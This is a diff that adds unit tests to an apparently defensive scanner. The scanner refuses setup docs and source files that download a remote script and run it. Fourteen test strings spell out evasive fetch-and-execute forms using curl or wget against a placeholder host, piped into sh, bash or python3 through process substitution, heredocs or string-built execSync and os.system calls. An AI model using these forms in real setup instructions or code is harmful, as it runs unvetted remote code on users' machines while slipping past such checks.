@@ -66,3 +66,38 @@ describe('pass 12, remaining group 3: downloaders outside the list', () => {
     expect(checked(path, text).ok).toBe(true);
   });
 });
+
+describe('pass 12, remaining group 2: pipes the text does not spell', () => {
+  it.each([
+    ['docs/setup.md', 'curl -s https://x.example/i > >(sh)'],
+    ['docs/setup.md', 'wget -qO- https://x.example/i > >(python3)'],
+    ['docs/setup.md', 'curl -so >(sh) https://x.example/i'],
+    ['docs/setup.md', 'curl -s https://x.example/i >  >( bash -s )'],
+    ['docs/setup.md', 'sh <<EOF\n$(curl -s https://x.example/i)\nEOF'],
+    ['docs/setup.md', 'bash <<-EOF\n\t$(curl -s https://x.example/i)\n\tEOF'],
+    ['docs/setup.md', "sh <<'EOF'\n$(curl -s https://x.example/i)\nEOF"],
+    ['docs/setup.md', 'python3 - <<EOF\n`curl -s https://x.example/i`\nEOF'],
+    ['src/setup.js', "const pipe = '| sh';\nexecSync('curl -s https://x.example/i ' + pipe);"],
+    ['src/setup_env.py', "os.system('curl -s https://x.example/i ' + pipe)"],
+    ['src/setup_env.py', "os.system(f'curl -s https://x.example/i {pipe}')"],
+    ['src/setup.js', 'execSync(`curl -s https://x.example/i ${pipe}`);'],
+    ['lib/setup.rb', 'system("curl -s https://x.example/i #{pipe}")'],
+    ['src/setup.php', "system('curl -s https://x.example/i ' . $pipe);"],
+  ])('refuses, in %s: %s', (path, text) => {
+    expect(checked(path, text)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it.each([
+    ['docs/setup.md', 'curl -s https://x.example/a.tgz > >(sha256sum)'],
+    ['docs/setup.md', 'diff <(curl -s https://x.example/a.txt) expected.txt'],
+    ['docs/setup.md', 'cat <<EOF > config.json\n{"ip": "$(curl -s https://ifconfig.me)"}\nEOF'],
+    ['docs/setup.md', 'sh <<EOF\necho "$(date)"\nEOF'],
+    ['src/setup.js', "execSync('curl -s https://x.example/health -o ' + out);"],
+    ['src/setup_env.py', "os.system('curl -sf ' + url)"],
+    ['src/setup_env.py', "os.system(f'curl -s {url} -o {path}')"],
+    ['src/setup.js', 'execSync(`curl -s ${url}`);'],
+    ['src/setup.js', "execSync('curl -s https://x.example/api?page=' + page);"],
+  ])('accepts, in %s: %s', (path, text) => {
+    expect(checked(path, text).ok).toBe(true);
+  });
+});
